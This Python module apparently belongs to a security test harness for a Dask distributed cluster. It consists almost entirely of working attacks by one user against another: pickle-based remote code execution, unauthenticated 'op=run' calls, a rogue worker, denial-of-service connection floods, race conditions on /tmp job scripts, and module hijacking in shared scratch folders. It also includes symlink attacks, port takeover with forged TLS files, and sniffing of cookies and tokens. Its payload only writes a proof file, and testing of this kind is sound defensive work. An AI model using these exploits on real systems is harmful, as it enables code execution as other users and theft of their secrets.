"""What an intruder tries: ``python3 attacks.py ATTACK '{"fact": …}'``, as mallory or bob.

Each function is one attack. It gets what an intruder finds out by scanning ports and looking
around, and returns whether it worked, with one line of evidence. Code that runs as alice leaves a
file in LOOT, whose owner is then alice: nobody else could have made it.
"""

import asyncio
import contextlib
import ctypes
import http.server
import json
import os
import pickle
import pwd
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from pathlib import Path

LOOT = Path("/scratch/loot")
TIMEOUT_S = 10


# --- how code of the intruder's shows that it ran as alice ---


class Loot:
    """A shell command that leaves a file, and what it takes to see that it ran as alice."""

    def __init__(self):
        self.file = LOOT / os.urandom(8).hex()
        self.command = f"echo $(id -un) on $(uname -n) > {self.file}"

    def owner(self):
        with contextlib.suppress(OSError):
            return pwd.getpwuid(self.file.stat().st_uid).pw_name

    def result(self, seconds=TIMEOUT_S, said=""):
        """Wait until the file is there; return the attack's result."""
        end = time.monotonic() + seconds
        while time.monotonic() < end and self.owner() != "alice":
            time.sleep(0.1)
        if self.owner() == "alice":
            return True, f"code ran as {self.file.read_text().strip() or 'alice'}"
        return False, said or "no code ran as alice"


class Evil:
    """Runs a command wherever it is unpickled."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def in_words(error):
    return f"{type(error).__name__}: {' '.join(str(error).split())}"[:200]


def own_certificate():
    """Return the files of a key and a certificate of the intruder's own."""
    folder = tempfile.mkdtemp()
    key, certificate = f"{folder}/key.pem", f"{folder}/cert.pem"
    command = "openssl req -x509 -nodes -newkey rsa:2048 -days 2 -subj /CN=dask"
    files = ["-keyout", key, "-out", certificate]
    subprocess.run([*command.split(), *files], check=True, capture_output=True)
    return key, certificate


def own_security(address, files=None):
    """Return a Security for an encrypted address, with a certificate of the intruder's own."""
    if not address.startswith("tls"):
        return None
    from distributed import Security

    key, certificate = files or own_certificate()

    class Careless(Security):
        def get_connection_args(self, role):
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.load_cert_chain(certificate, key)
            return {"ssl_context": context, "require_encryption": True, "extra_conn_args": {}}

        def get_listen_args(self, role):
            context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
            context.load_cert_chain(certificate, key)
            return {"ssl_context": context, "require_encryption": True}

    roles = ("client", "worker", "scheduler")
    own = {f"tls_{role}_key": key for role in roles}
    own |= {f"tls_{role}_cert": certificate for role in roles}
    return Careless(tls_ca_file=certificate, require_encryption=True, **own)


# --- the network ---


def client(scheduler, **_):
    """Connect a client to the scheduler, and run a function there."""
    from distributed import Client

    loot = Loot()
    try:
        with Client(scheduler, timeout=TIMEOUT_S, security=own_security(scheduler)) as mine:
            mine.run_on_scheduler(os.system, loot.command)
    except Exception as error:
        return loot.result(1, in_words(error))
    return loot.result()


async def _op_run(address, command, security):
    from distributed.core import connect

    options = security.get_connection_args("client") if security else {}
    comm = await connect(address, timeout=TIMEOUT_S, **options)
    try:
        run = {"function": pickle.dumps(os.system), "args": pickle.dumps((command,))}
        await comm.write({"op": "run", "kwargs": {}, "wait": True, "reply": True, **run})
        await asyncio.wait_for(comm.read(), TIMEOUT_S)
    finally:
        comm.abort()


def _run_at(addresses, files=None):
    loot, said = Loot(), "no such port is known"
    for address in addresses:
        try:
            asyncio.run(_op_run(address, loot.command, own_security(address, files)))
        except Exception as error:
            said = in_words(error)
        else:
            return loot.result()
    return loot.result(1, said)


def worker_run(workers, **_):
    """Send `op=run` to a worker."""
    return _run_at(workers)


def nanny_run(nannies, **_):
    """Send `op=run` to a worker's nanny."""
    return _run_at(nannies)


def rogue_worker(scheduler, **_):
    """Join as a worker, and answer each task with a pickle that runs a command."""
    from distributed import Worker

    loot = Loot()

    class Altered(dict):
        def __setitem__(self, key, value):
            super().__setitem__(key, Evil(loot.command))

    async def join():
        options = {"nthreads": 4, "data": Altered, "death_timeout": TIMEOUT_S, "dashboard": False}
        options |= {"local_directory": tempfile.mkdtemp(), "security": own_security(scheduler)}
        if scheduler.startswith("tcp://127."):
            options["host"] = "127.0.0.1"
        else:
            options["interface"] = "ib0"
        async with Worker(scheduler, **options) as worker:
            end = time.monotonic() + 2 * TIMEOUT_S
            while time.monotonic() < end and loot.owner() is None:
                await asyncio.sleep(0.1)
            return f"joined as {worker.name}"

    try:
        said = asyncio.run(asyncio.wait_for(join(), 4 * TIMEOUT_S))
    except BaseException as error:
        said = in_words(error)
    return loot.result(1, said)


def idle_connections(scheduler, number=1500, seconds=15, **_):
    """Hold connections that say nothing; the result is seen at alice's."""
    host, port = scheduler.split("://")[1].rsplit(":", 1)
    held = []
    for _ in range(number):
        with contextlib.suppress(OSError):
            held.append(socket.create_connection((host, int(port)), timeout=TIMEOUT_S))
    time.sleep(seconds)
    for connection in held:
        connection.close()
    return len(held) == number, f"{len(held)} connections"


def garbage(scheduler, number=300, **_):
    """Send what is no message of Dask's on many connections."""
    host, port = scheduler.split("://")[1].rsplit(":", 1)
    sent = 0
    for _ in range(number):
        with contextlib.suppress(OSError):
            with socket.create_connection((host, int(port)), timeout=TIMEOUT_S) as connection:
                connection.sendall(b"GET / HTTP/1.0\r\n\r\n" * 8)
                sent += 1
    return sent == number, f"{sent} connections"


def _ports():
    """Return alice's ports on this computer, each with an address that leads there."""
    uid, found = pwd.getpwnam("alice").pw_uid, []
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        _, local, _, state, _, _, _, user = line.split()[:8]
        if state == "0A" and int(user) == uid:  # it listens
            number, port = local.split(":")
            address = socket.inet_ntoa(struct.pack("<I", int(number, 16)))
            own = socket.gethostbyname(socket.gethostname())
            found.append((own if address == "0.0.0.0" else address, int(port, 16)))
    return found


def open_ports(**_):
    """Look for ports of alice's on this computer that answer whoever connects."""
    answers = [(host, port, _answer(host, port)) for host, port in _ports()]
    found = [f"{host}:{port} {says}" for host, port, says in answers if says]
    return bool(found), "; ".join(found) or "no port of alice's answers"


def _answer(address, port):
    """Return how a port answers: Dask's greeting comes unasked, a web server's page when asked."""
    with contextlib.suppress(OSError):
        with socket.create_connection((address, port), timeout=2) as connection:
            connection.settimeout(1)
            with contextlib.suppress(TimeoutError):
                if connection.recv(1):
                    return "greets as Dask"
            connection.sendall(b"GET /health HTTP/1.0\r\n\r\n")
            status = connection.recv(100).split(b"\r\n")[0].decode(errors="replace")
            if " 200 " in status:
                return "has web pages"
    return None


# --- the dashboard ---


def _get(url):
    with urllib.request.urlopen(url, timeout=TIMEOUT_S) as answer:
        return answer.status, answer.read().decode(errors="replace")


def _page(host, port, path, words):
    """Ask for a page; return whether it came and has these words."""
    url = f"http://{host}:{port}{path}"
    try:
        status, text = _get(url)
    except Exception as error:
        return False, f"{path}: {in_words(error)}"
    return words in text, f"GET {url} answers {status}, {len(text)} bytes"


def _host(scheduler):
    return scheduler.split("://")[1].rsplit(":", 1)[0]


def dashboard_status(scheduler, dashboard, **_):
    """Open the dashboard by the scheduler's address."""
    return _page(_host(scheduler), dashboard, "/status", "Dask")


def dashboard_loopback(dashboard, **_):
    """Open the dashboard from the login node itself, without its secret path."""
    return _page("127.0.0.1", dashboard, "/status", "Dask")


def dashboard_logs(scheduler, dashboard, **_):
    """Read the scheduler's logs on the dashboard."""
    return _page(_host(scheduler), dashboard, "/info/main/logs.html", "distributed")


def dashboard_call_stacks(scheduler, dashboard, workers, **_):
    """Read the call stacks of a worker, which has the code that runs."""
    from urllib.parse import quote

    path = f"/info/call-stacks/{quote(workers[0], safe='')}.html"
    return _page(_host(scheduler), dashboard, path, "square")


def dashboard_events(dashboard, **_):
    """Ask for the stream of events from the login node itself, and hang up."""
    return _page("127.0.0.1", dashboard, "/eventstream", "")


def dashboard_proxy(scheduler, dashboard, web_servers, **_):
    """Use the dashboard as a way to a web server on a node."""
    if not web_servers:
        return False, "no worker has a dashboard"
    host, port = web_servers[0]
    return _page(_host(scheduler), dashboard, f"/proxy/{port}/{host}/status", "Dask")


def dashboard_secret(dashboard, secret, scheduler, **_):
    """Look for the dashboard's secret path in what everybody can read; there may be no secret."""
    if not secret:
        return True, "there is no secret path"
    found = _find(secret.encode(), ["proc/[0-9]*/cmdline", "proc/[0-9]*/environ"])
    found = found or _find_in_trees(secret.encode(), ["/tmp", "/scratch", "/home", "/dev/shm"])
    return bool(found), f"in {found}" if found else "found nowhere"


def _find(text, patterns):
    for pattern in patterns:
        for path in Path("/").glob(pattern):
            with contextlib.suppress(OSError, KeyError):
                if path.owner() == "alice" and text in path.read_bytes():
                    return path
    return None


def _find_in_trees(text, trees):
    for tree in trees:
        for folder, _, files in os.walk(tree):
            for name in files:
                path = Path(folder, name)
                with contextlib.suppress(OSError):
                    if path.owner() == "alice" and text in path.read_bytes():
                        return str(path)
    return None


# --- files ---


class Watch:
    """The names of files that are made in a folder, without a pause in between (inotify)."""

    CREATE, DELETE = 0x100, 0x200

    def __init__(self, folder, what=CREATE):
        libc = ctypes.CDLL(None, use_errno=True)
        self._fd = libc.inotify_init1(os.O_NONBLOCK)
        if libc.inotify_add_watch(self._fd, str(folder).encode(), what) < 0:
            raise OSError(ctypes.get_errno(), folder)

    def names(self):
        """Return the names since the last call."""
        try:
            events = os.read(self._fd, 65536)
        except BlockingIOError:
            return []
        found = []
        while events:
            length = struct.unpack("iIII", events[:16])[3]
            found.append(events[16 : 16 + length].rstrip(b"\0").decode())
            events = events[16 + length :]
        return found


def race_job_script(seconds=30, **_):
    """Make the file of a job script in /tmp just before alice does, and change it later."""
    loot, watch, seen = Loot(), Watch("/tmp"), set()
    end = time.monotonic() + seconds
    os.umask(0)
    while time.monotonic() < end:
        # The newest alone: the others are late already. Files of our own are among them.
        for name in watch.names()[-1:]:
            if not (name.startswith("tmp") and name.endswith(".sh")) or name in seen:
                continue
            seen.add(name)
            if _overtake(f"/tmp/{name}", f"#!/bin/bash\n{loot.command}\nsleep 1\n"):
                loot.result(5)
                if loot.owner() == "alice":
                    return loot.result()
    return loot.result(5, f"{len(seen)} job scripts were seen in /tmp, none was overtaken")


def _overtake(path, text):
    """Create a file as soon as its name is free; replace what alice writes into it."""
    for _ in range(2000):
        try:
            file = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o666)
        except OSError:
            continue
        break
    else:
        return False
    end = time.monotonic() + 0.3
    while time.monotonic() < end:
        if os.fstat(file).st_size and os.pread(file, 20, 0) != text.encode()[:20]:
            os.pwrite(file, text.encode(), 0)  # never empty, which sbatch would refuse
            os.truncate(file, len(text))
            return True
    Path(path).unlink(missing_ok=True)
    return False


def scratch_module(folder="/tmp/dask-scratch-space", seconds=40, **_):
    """Leave a module in the folder that alice's workers use, which Python finds first."""
    loot = Loot()
    if not _prepare(folder):
        return False, f"{folder} is somebody else's"
    text = f"import os\nos.system({loot.command!r})\nraise ImportError\n"
    for name in ("lz4", "snappy", "zstandard", "crick", "gilknocker", "jupyter_server_proxy"):
        Path(folder, f"{name}.py").write_text(text)
    print("ready", flush=True)
    won = loot.result(seconds)
    shutil.rmtree(folder, ignore_errors=True)
    return won


def _prepare(folder):
    """Make a folder that others will use, or find that it can be had."""
    os.umask(0)
    with contextlib.suppress(FileExistsError):
        Path(folder).mkdir(0o777, parents=True)
    return Path(folder).owner() != "alice"


def scratch_spill(folder="/tmp/dask-scratch-space", seconds=60, **_):
    """Exchange the folder of a worker in a folder made before, and the results spilled there."""
    loot = Loot()
    if not _prepare(folder):
        return False, f"{folder} is somebody else's"
    from distributed.protocol import serialize_bytes

    planted, exchanged = serialize_bytes(Evil(loot.command)), set()
    print("ready", flush=True)
    end, spilled = time.monotonic() + seconds, 0
    while time.monotonic() < end and loot.owner() is None:
        for place in Path(folder).glob("worker-*"):
            if place not in exchanged and place.is_dir() and place.owner() == "alice":
                place.rename(f"{folder}/was-{place.name}")
                (place / "storage").mkdir(parents=True)
                exchanged.add(place)
        for file in [file for place in exchanged for file in place.glob("storage/*")]:
            with contextlib.suppress(OSError):
                if file.owner() == "alice":
                    file.unlink()
                    file.write_bytes(planted)
                    spilled += 1
        time.sleep(0.02)
    said = f"exchanged {len(exchanged)} folders and {spilled} files"
    return loot.result(1, said)


def log_links(folder, target, **_):
    """Exchange a folder of logs by one of links to a file that only alice can write."""
    mine = ["sbatch", "--parsable", "--output=/dev/null", "--wrap=true"]
    last = int(subprocess.run(mine, check=True, capture_output=True).stdout)
    try:
        Path(folder).rename(f"{folder}.was")
        Path(folder).mkdir()
        Path(folder).chmod(0o777)
        for job in range(last + 1, last + 9):
            for name in ("dask-worker", "demo-lab"):
                for end in ("out", "err"):
                    Path(folder, f"{name}-{job}.{end}").symlink_to(target)
    except OSError as error:
        return False, in_words(error)
    return True, f"{folder} has links to {target}"


def _exchange_tls_files(folder):
    """Exchange the folder with a connection's key and certificates by one with the intruder's."""
    key, certificate = own_certificate()
    names = [file.name for file in Path(folder).iterdir()]
    Path(folder).rename(f"{folder}.was")
    Path(folder).mkdir()
    Path(folder).chmod(0o777)
    for name in names:
        file = Path(folder, name)
        shutil.copy(key if ".key." in name else certificate, file)
        file.chmod(0o644)
    return key, certificate


def take_port(scheduler, folder=None, seconds=60, **_):
    """Take the port of a scheduler that is dead, and give the workers that come tasks.

    With encryption, they come if the files in `folder` have been exchanged.
    """
    from distributed import Client, Scheduler

    loot = Loot()
    host, port = scheduler.split("://")[1].rsplit(":", 1)

    async def serve():
        files = _exchange_tls_files(folder) if folder else None
        options = {"host": host, "port": int(port), "dashboard": False}
        options["protocol"] = scheduler.split("://")[0] + "://"
        if security := own_security(scheduler, files):
            options["security"] = security
        async with Scheduler(**options) as mine:
            print("ready", flush=True)
            end = time.monotonic() + seconds
            while time.monotonic() < end and not mine.workers:
                await asyncio.sleep(0.1)
            if not mine.workers:
                return "no worker came"
            async with Client(mine.address, asynchronous=True, security=security) as client:
                await client.submit(os.system, loot.command)
            return "a worker came"

    try:
        said = asyncio.run(serve())
    except Exception as error:
        print("ready", flush=True)
        said = in_words(error)
    return loot.result(2, said)


def plant(files, **_):
    """Write files with a command in them, and say later whether it ran: see `planted`."""
    os.umask(0)
    loot = Loot()
    for path, text in files.items():
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        Path(path).write_text(text.replace("COMMAND", repr(loot.command)))
    print(loot.file)
    return True, str(loot.file)


def planted(file, seconds=5, **_):
    """Look whether what was planted has run."""
    loot = Loot()
    loot.file = Path(file)
    return loot.result(seconds)


def listen(port, seconds=60, **_):
    """Answer at a port of the loopback that somebody else had, and look for alice's secrets."""
    seen = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(str(self.headers) + self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_):
            pass

    try:
        server = http.server.HTTPServer(("127.0.0.1", port), Handler)
    except OSError as error:
        print("ready", flush=True)
        return False, in_words(error)
    server.timeout = 0.5
    print("ready", flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end and not seen:
        server.handle_request()
    secrets = ("cookie:", "authorization:", "token=")
    for text in seen:
        for line in text.splitlines():
            if any(word in line.lower() for word in secrets):
                return True, f"was sent {line.split('=')[0][:60]}…"
    return False, f"{len(seen)} requests, none with a secret"


def readable(trees=("/tmp", "/scratch", "/home", "/dev/shm", "/var/spool"), **_):
    """Look for files and folders of alice's that others can read or write."""
    found = []
    for tree in trees:
        for folder, folders, files in os.walk(tree):
            for name in files:
                path = Path(folder, name)
                with contextlib.suppress(OSError, KeyError):
                    if path.is_symlink() or path.owner() != "alice" or not path.stat().st_size:
                        continue
                    if LOOT not in path.parents and os.access(path, os.R_OK):
                        found.append(str(path))
            folders[:] = [name for name in folders if os.access(Path(folder, name), os.R_OK)]
    return bool(found), f"{len(found)} files, such as {found[0]}" if found else "no file of alice's"


if __name__ == "__main__":
    attack, facts = globals()[sys.argv[1]], json.loads(sys.argv[2])
    worked, evidence = attack(**facts)
    print(json.dumps({"worked": worked, "evidence": evidence}), flush=True)
    os._exit(0)  # whatever threads and loops are left
